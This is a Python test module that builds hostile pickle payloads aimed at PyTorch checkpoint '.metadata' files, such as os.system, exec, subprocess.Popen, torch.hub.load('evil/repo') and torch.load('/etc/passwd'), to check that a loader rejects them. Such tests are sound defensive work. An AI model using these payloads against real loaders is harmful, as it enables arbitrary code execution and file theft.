"""`.metadata` that tries to run something."""

from __future__ import annotations

from pathlib import Path

from tests.hostile import fake_torch
from tests.hostile.draft import healthy
from tests.hostile.opcodes import PROTO, call, in_front, instead, name, payload, text, with_field
from tests.hostile.registry import canary, case

METADATA = "torch.distributed.checkpoint.metadata:Metadata"


@case(opens="unsafe-pickle", subject="os.system")
def reduce_os_system(directory: Path) -> None:
    in_front(directory, payload(directory))


@case(opens="unsafe-pickle", subject="posix.system")
def global_posix_system(directory: Path) -> None:
    command = f"touch {canary(directory)}"
    in_front(directory, b"cposix\nsystem\n" + text(command) + b"\x85R")


@case(opens="unsafe-pickle", subject="builtins.eval")
def reduce_eval(directory: Path) -> None:
    in_front(directory, call("builtins:eval", text(f"open({str(canary(directory))!r}, 'w')")))


@case(opens="unsafe-pickle", subject="builtins.exec")
def python_2_exec(directory: Path) -> None:
    code = f"open({str(canary(directory))!r}, 'w')"
    in_front(directory, b"c__builtin__\nexec\n" + text(code) + b"\x85R")


@case(opens="unsafe-pickle", subject="builtins.getattr")
def getattr_chain(directory: Path) -> None:
    in_front(directory, call("builtins:getattr", name(METADATA), text("__init__")))


@case(opens="unsafe-pickle", subject="builtins.__import__")
def import_module(directory: Path) -> None:
    in_front(directory, call("builtins:__import__", text("antigravity")))


@case(opens="unsafe-pickle", subject="metadata.Metadata.__init__.__globals__")
def dotted_name(directory: Path) -> None:
    in_front(directory, name(METADATA + ".__init__.__globals__"))


@case(opens="unsafe-pickle", subject="torch.serialization.os.system")
def dotted_name_through_a_known_module(directory: Path) -> None:
    in_front(directory, call("torch.serialization:os.system", text("true")))


@case(opens="unsafe-pickle", subject="torch.load")
def torch_load(directory: Path) -> None:
    in_front(directory, call("torch:load", text("/etc/passwd")))


@case(opens="unsafe-pickle", subject="torch.hub.load")
def torch_hub(directory: Path) -> None:
    in_front(directory, call("torch.hub:load", text("evil/repo"), text("model")))


@case(opens="unsafe-pickle", subject="copyreg._reconstructor")
def copyreg_reconstructor(directory: Path) -> None:
    in_front(
        directory, call("copyreg:_reconstructor", name(METADATA), name("builtins:object"), b"N")
    )


@case(opens="unsafe-pickle", subject="nt.system")
def inst_opcode(directory: Path) -> None:
    in_front(directory, b"(" + text("touch canary") + b"int\nsystem\n")


@case(opens="unsafe-pickle", subject="subprocess.Popen")
def obj_opcode(directory: Path) -> None:
    in_front(directory, b"(" + name("subprocess:Popen") + text("true") + b"o")


@case(opens="unsafe-pickle", subject="subprocess.Popen")
def newobj_opcode(directory: Path) -> None:
    in_front(directory, name("subprocess:Popen") + text("true") + b"\x85\x81")


@case(opens="unsafe-pickle", subject="subprocess.Popen")
def newobj_ex_opcode(directory: Path) -> None:
    in_front(directory, name("subprocess:Popen") + text("true") + b"\x85}\x92")


@case(opens="unsafe-pickle", subject="webbrowser.open")
def names_from_the_memo(directory: Path) -> None:
    opcodes = text("webbrowser") + b"\x940" + text("open") + b"\x940h\x00h\x01\x93"
    in_front(directory, opcodes + text("file:///") + b"\x85R")


@case(opens="malformed-pickle")
def stack_global_of_other_than_strings(directory: Path) -> None:
    in_front(directory, b"K\x01K\x02\x93")


@case(opens="malformed-pickle")
def stack_global_of_bytes(directory: Path) -> None:
    in_front(directory, b"C\x02osC\x06system\x93")


@case(opens="unsafe-pickle", subject="0x82")
def extension_opcode_1(directory: Path) -> None:
    in_front(directory, b"\x82\x01")


@case(opens="unsafe-pickle", subject="0x83")
def extension_opcode_2(directory: Path) -> None:
    in_front(directory, b"\x83\x01\x00")


@case(opens="unsafe-pickle", subject="0x84")
def extension_opcode_4(directory: Path) -> None:
    in_front(directory, b"\x84\x01\x00\x00\x00")


@case(opens="unsafe-pickle", subject="0x97")
def out_of_band_buffer(directory: Path) -> None:
    in_front(directory, b"\x97\x98")


@case(opens="unsafe-pickle", subject="persistent id")
def persistent_id_text(directory: Path) -> None:
    in_front(directory, b"Pos.system\n")


@case(opens="unsafe-pickle", subject="persistent id")
def persistent_id_binary(directory: Path) -> None:
    in_front(directory, text("storage") + b"Q")


@case(opens="malformed-pickle")
def build_on_a_list(directory: Path) -> None:
    in_front(directory, b"]}" + text("__class__") + text("x") + b"sb")


@case(opens="malformed-pickle")
def build_on_a_class(directory: Path) -> None:
    state = b"}" + text("__setstate__") + name("builtins:list") + b"s"
    in_front(directory, name(METADATA) + state + b"b")


@case()
def build_sets_dunder_attributes(directory: Path) -> None:
    """State with the names of methods is data like any other."""
    draft = healthy()
    names = ("__class__", "__setstate__", "__reduce__", "fields")
    state = fake_torch.StorageInfo()
    state.__dict__.update(dict.fromkeys(names, "os.system"))
    draft.fields["mcore_data"] = [state]
    draft.write(directory)


@case(opens="malformed-pickle")
def build_with_keys_that_are_no_strings(directory: Path) -> None:
    in_front(directory, name(METADATA) + b")\x81}K\x01K\x02sb")


@case(opens="unsafe-pickle", subject="builtins.type")
def calls_a_type_that_may_only_be_named(directory: Path) -> None:
    in_front(directory, call("builtins:type", text("x"), b")", b"}"))


@case(opens="malformed-pickle")
def calls_a_string(directory: Path) -> None:
    in_front(directory, text("os.system") + text("true") + b"\x85R")


@case(opens="malformed-pickle")
def calls_a_dtype(directory: Path) -> None:
    in_front(directory, name("torch:float32") + b")R")


@case(opens="malformed-pickle")
def calls_with_a_list_of_arguments(directory: Path) -> None:
    in_front(directory, name("torch:Size") + b"]R")


@case(opens="malformed-pickle")
def size_of_strings(directory: Path) -> None:
    in_front(directory, call("torch:Size", text("a") + b"\x85"))


@case(opens="malformed-pickle")
def encode_with_another_codec(directory: Path) -> None:
    in_front(directory, call("_codecs:encode", text("a"), text("zip")))


@case(opens="malformed-metadata", subject="list")
def root_is_a_list(directory: Path) -> None:
    instead(directory, b"]")


@case(opens="malformed-metadata", subject="StorageMeta")
def root_is_another_record(directory: Path) -> None:
    instead(directory, name("torch.distributed.checkpoint.metadata:StorageMeta") + b")\x81}b")


@case(opens="malformed-metadata", subject="OrderedDict")
def root_is_a_state_dict(directory: Path) -> None:
    instead(directory, call("collections:OrderedDict"))


@case(opens="malformed-metadata")
def metadata_without_state(directory: Path) -> None:
    instead(directory, name(METADATA) + b")\x81")


@case(opens="unsafe-pickle", subject="posix.system")
def payload_behind_a_genuine_stream(directory: Path) -> None:
    """Before STOP, so that a whole checkpoint has been built when it would run."""
    draft = healthy()
    from tests.hostile.fake_torch import dumps

    genuine = dumps(draft.metadata(), 2)
    draft.write(directory, metadata=genuine[:-1] + b"cposix\nsystem\n" + text("x") + b"\x85R0.")


@case(opens="unsafe-pickle", subject="os.system")
def second_pickle_in_a_field(directory: Path) -> None:
    with_field(directory, payload(directory))


@case(opens="malformed-pickle")
def torch_save_archive_as_metadata(directory: Path) -> None:
    draft = healthy()
    draft.write(directory, metadata=bytes(draft.files["__0_0.distcp"]))


@case(opens="malformed-pickle")
def protocol_200(directory: Path) -> None:
    healthy().write(directory, metadata=b"\x80\xc8" + PROTO + b"N.")
